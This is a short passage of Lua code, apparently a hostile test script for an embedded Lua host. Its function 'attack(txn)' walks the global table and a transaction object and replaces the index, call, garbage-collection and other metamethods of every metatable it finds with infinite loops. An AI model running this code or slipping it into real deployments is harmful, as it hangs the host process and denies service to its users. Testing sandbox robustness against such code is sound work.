-- ends
function attack(txn)
    local seen, queue, count = {}, { _G, txn }, 0
    while #queue > 0 do
        local item = table.remove(queue)
        if not seen[item] then
            seen[item], count = true, count + 1
            local ok, mt = pcall(getmetatable, item)
            if ok and type(mt) == "table" then
                queue[#queue + 1] = mt
                for _, event in ipairs({ "__index", "__newindex", "__gc", "__call", "__tostring", "__metatable" }) do
                    pcall(rawset, mt, event, function() while true do end end)
                end
            end
            if type(item) == "table" then
                for k, v in next, item do
                    if type(v) == "table" or type(v) == "userdata" then queue[#queue + 1] = v end
                end
            end
        end
    end
    return count
end
